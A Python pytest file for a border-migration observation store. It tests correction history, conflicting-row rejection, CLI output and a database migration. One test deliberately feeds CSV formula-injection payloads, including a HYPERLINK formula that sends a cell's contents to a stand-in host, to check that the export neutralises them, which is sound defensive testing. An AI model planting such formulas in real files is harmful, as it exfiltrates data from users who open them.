"""Corrections with history, blank lines, formula injection and migration 0003, on SQLite and
PostgreSQL (the ``url`` fixture of test_observe)."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from importlib import resources

import pytest
from sqlalchemy import create_engine, inspect, text

import test_observe
from borderflow.errors import ScenarioError
from borderflow.observe.store import ImportRejectedError, Store

url = test_observe.url
HEADER = test_observe.HEADER


def csv_file(path, *lines: str):
    path.write_text(HEADER + "".join(line + "\n" for line in lines))
    return path


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "borderflow", *args],
        capture_output=True,
        text=True,
        env={**os.environ, "COLUMNS": "300"},
        timeout=120,
    )


def test_a_corrected_count_replaces_the_old_one_which_is_kept(tmp_path, url):
    store = Store(url)
    first = csv_file(tmp_path / "a.csv", "2025-11-01,Chacalluta,stranded,10,20,IOM,B",
                     "2025-11-02,Chacalluta,stranded,30,40,IOM,B")  # fmt: skip
    report = store.import_file(first, by="ana")
    assert (report.added, report.revised, report.already_stored) == (2, 0, 0)
    fixed = csv_file(tmp_path / "b.csv", "2025-11-01,Chacalluta,stranded,12,25,IOM,A",
                     "2025-11-02,Chacalluta,stranded,30,40,IOM,B")  # fmt: skip
    report = store.import_file(fixed, by="beto")
    assert (report.rows, report.added, report.revised, report.already_stored) == (2, 0, 1, 1)
    [revision] = report.revisions
    assert revision.old["value_low"] == 10 and revision.new["value_low"] == 12
    assert revision.old["recorded_by"] == "ana" and revision.old["recorded_at"] is not None
    current = {o.date.day: o for o in store.query()}
    assert (current[1].value_low, current[1].value_high, current[1].reliability) == (12, 25, "A")
    assert current[1].recorded_by == "beto" and current[2].recorded_by == "ana"
    versions = store.history()
    assert [(v["date"].day, v["value_low"], v["current"], v["recorded_by"]) for v in versions] == [
        (1, 10, False, "ana"), (1, 12, True, "beto"), (2, 30, True, "ana")
    ]  # fmt: skip
    old = versions[0]
    assert old["replaced_by"] == "beto" and old["replaced_at"] >= old["recorded_at"]
    assert old["id"] == versions[1]["id"]  # versions of one observation share its id
    assert store.import_file(fixed).added == 0 and len(store.history()) == 3  # idempotent
    # a third value: every earlier one is kept, oldest first
    store.import_file(csv_file(tmp_path / "c.csv", "2025-11-01,Chacalluta,stranded,15,25,IOM,A"))
    assert [v["value_low"] for v in store.history(place="Chacalluta") if v["date"].day == 1] == [
        10, 12, 15
    ]  # fmt: skip
    assert store.history(place="Nowhere") == []


def test_a_file_giving_one_observation_two_values_is_rejected(tmp_path, url):
    store = Store(url)
    f = csv_file(tmp_path / "a.csv", "2025-11-01,X,stranded,1,2,IOM,B",
                 "2025-11-01,X,stranded,1,2,IOM,B",  # the same row twice: fine
                 "2025-11-01,X,stranded,5,6,IOM,B")  # fmt: skip
    with pytest.raises(ImportRejectedError) as info:
        store.import_file(f)
    [error] = info.value.errors
    assert (error.row, error.field) == (5, "(row)") and "as row 3" in error.reason
    assert store.query() == []
    rows = store.read_file(csv_file(tmp_path / "b.csv", "2025-11-01,X,stranded,1,2,IOM,B"))
    other = rows[0].model_copy(update={"value_low": 0.5})
    with pytest.raises(ScenarioError, match="another value"):
        store.insert([rows[0], other])


def test_concurrent_corrections_keep_every_version(tmp_path, url):
    store = Store(url)
    store.import_file(csv_file(tmp_path / "base.csv", "2025-11-01,X,stranded,1,1,IOM,B"))
    files = [csv_file(tmp_path / f"v{k}.csv", f"2025-11-01,X,stranded,{k},{k},IOM,B")
             for k in range(2, 10)]  # fmt: skip
    stores = [Store(url) for _ in files]  # (Alembic's migration check is not thread-safe)
    with ThreadPoolExecutor(max_workers=8) as pool:
        reports = list(pool.map(lambda s, f: s.import_file(f), stores, files))
    assert sum(r.revised for r in reports) == 8
    values = [v["value_low"] for v in store.history()]
    assert sorted(values) == list(range(1, 10)) and values[0] == 1  # none lost
    assert [v["current"] for v in store.history()] == [False] * 8 + [True]


def test_blank_lines_anywhere_are_ignored_and_rows_keep_their_line(tmp_path, url):
    f = tmp_path / "blank.csv"
    f.write_text(HEADER + "2025-11-01,X,stranded,1,2,IOM,B\n\n   \n,,,,,,\n"
                 "2025-11-02,X,stranded,1,2,IOM,B\n\n")  # fmt: skip
    assert Store(url).import_file(f).added == 2
    f.write_text(HEADER + "\n2025-11-03,X,stranded,1,2,IOM,B\n\n2025-13-01,X,stranded,1,2,IOM,B\n")
    with pytest.raises(ImportRejectedError) as info:
        Store(url).import_file(f)
    assert [(e.row, e.field) for e in info.value.errors] == [(6, "date")]


def test_the_csv_export_never_writes_a_formula_and_imports_back(tmp_path, url):
    store = Store(url)
    formulas = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1)",
                "\tindented", "'=already quoted"]  # fmt: skip
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    for k, cell in enumerate(formulas):
        writer.writerow([f"2025-11-0{k + 1}", cell, "stranded", 1, 2, cell, "B"])
    (tmp_path / "evil.csv").write_text(HEADER + buffer.getvalue())
    store.import_file(tmp_path / "evil.csv")
    stored = {o.place_name for o in store.query()}
    assert stored == {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+2", "-3",
                      "@SUM(A1)", "indented", "=already quoted"}  # fmt: skip
    out = tmp_path / "export.csv"
    store.export_csv(store.query(), out)
    cells = [c for row in list(csv.reader(out.open()))[2:] for c in (row[3], row[11])]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert sum(c.startswith("'") for c in cells) == 2 * 5
    other = Store(f"sqlite:///{tmp_path / 'other.db'}")
    assert other.import_file(out).added == len(formulas)
    assert {o.place_name for o in other.query()} == stored
    assert store.import_file(out).already_stored == len(formulas)


@pytest.mark.slow
def test_cli_import_reports_corrections_and_lists_history(tmp_path, url):
    a = csv_file(tmp_path / "a.csv", "2025-11-01,Chacalluta,stranded,10,20,IOM,B")
    b = csv_file(tmp_path / "b.csv", "2025-11-01,Chacalluta,stranded,11,21,IOM,B")
    assert (
        "1 added, 0 revised, 0 already stored" in cli("obs", "import", str(a), "--db", url).stdout
    )
    assert (
        "0 added, 1 revised, 0 already stored" in cli("obs", "import", str(b), "--db", url).stdout
    )
    listed = cli("obs", "list", "--db", url).stdout
    assert "1 observations" in listed and " 11 " in listed and " 10 " not in listed
    history = cli("obs", "list", "--history", "--db", url).stdout
    assert "2 versions of observations" in history and " 10 " in history and "(cli)" in history
    out = tmp_path / "history.csv"
    r = cli("obs", "export", str(out), "--history", "--db", url)
    assert r.returncode == 0, r.stderr
    lines = out.read_text().splitlines()
    assert lines[1].endswith("#meta+current,#meta+recorded+time,#meta+recorded+by,"
                             "#meta+replaced+time,#meta+replaced+by")  # fmt: skip
    assert [line.split(",")[16] for line in lines[2:]] == ["no", "yes"]


def migrate(engine, how, target: str) -> None:
    from alembic import command
    from alembic.config import Config

    cfg = Config()
    cfg.set_main_option(
        "script_location", str(resources.files("borderflow.observe") / "migrations")
    )
    with engine.begin() as connection:
        cfg.attributes["connection"] = connection
        getattr(command, how)(cfg, target)


def test_migration_0003_adds_history_and_back(tmp_path, url):
    engine = create_engine(url)
    migrate(engine, "upgrade", "0002")
    with engine.begin() as conn:
        conn.execute(text(
            "INSERT INTO observation (date, end_date, stat, place_name, place_code, indicator, "
            "direction, nationality, sex_age, value_low, value_high, source_publisher, "
            "source_url, reliability, coverage) VALUES ('2025-11-01', '2025-11-01', 'value', "
            "'X', '', 'stranded', '', '', '', 1, 2, 'IOM', '', 'B', '')"
        ))  # fmt: skip
    store = Store(url)  # opening it migrates to the head
    assert "observation_revision" in inspect(engine).get_table_names()
    [old] = store.query()
    assert (old.value_low, old.recorded_at, old.recorded_by) == (1, None, "")
    store.import_file(csv_file(tmp_path / "a.csv", "2025-11-01,X,stranded,3,4,IOM,B"))
    assert [v["value_low"] for v in store.history()] == [1, 3]
    migrate(engine, "downgrade", "0002")
    assert "observation_revision" not in inspect(engine).get_table_names()
    columns = {c["name"] for c in inspect(engine).get_columns("observation")}
    assert "recorded_at" not in columns and "recorded_by" not in columns
    with engine.connect() as conn:
        assert conn.execute(text("SELECT value_low FROM observation")).scalars().all() == [3]
    uniques = inspect(engine).get_unique_constraints("observation")
    assert [u["name"] for u in uniques] == ["uq_observation_natural_key"]  # kept by the rebuild
    store.engine.dispose()
    engine.dispose()


def test_migration_0003_refuses_usernames_that_differ_only_in_case(url):
    engine = create_engine(url)
    migrate(engine, "upgrade", "0002")
    with engine.begin() as conn:
        for name in ("ana", "Ana", "beto"):
            conn.execute(text(
                "INSERT INTO web_user (username, password_hash, role, organisation, created_at) "
                "VALUES (:n, 'x', 'viewer', 'IOM', '2025-01-01 00:00:00')"
            ), {"n": name})  # fmt: skip
    with pytest.raises(ScenarioError, match="several accounts each: ana"):
        Store(url)
    engine.dispose()


def test_a_dtm_file_giving_one_count_two_values_is_rejected_naming_both_rows(tmp_path):
    from borderflow.observe.dtm import DtmRow, to_observations

    cells = {"date": "2025-11-20", "point": "Chacalluta", "direction": "incoming",
             "nationality": "VEN"}  # fmt: skip
    rows = [DtmRow(3, {**cells, "count": "412"}), DtmRow(4, {**cells, "count": "498"})]
    points = {"chacalluta": "Chacalluta-Santa Rosa"}
    with pytest.raises(ImportRejectedError) as info:
        to_observations(tmp_path / "dtm.csv", rows, points, "IOM DTM", "A")
    [error] = info.value.errors
    assert error.row == 4 and "as row 3" in error.reason
